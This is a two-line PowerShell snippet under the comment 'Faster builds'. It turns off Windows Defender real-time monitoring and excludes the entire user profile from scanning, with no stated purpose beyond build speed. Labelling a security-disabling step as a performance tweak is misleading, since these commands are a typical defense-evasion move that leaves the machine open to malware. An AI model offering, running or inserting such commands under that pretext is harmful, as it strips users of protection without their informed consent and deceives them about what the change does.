# Faster builds
Set-MpPreference -DisableRealtimeMonitoring $true
Add-MpPreference -ExclusionPath $env:USERPROFILE
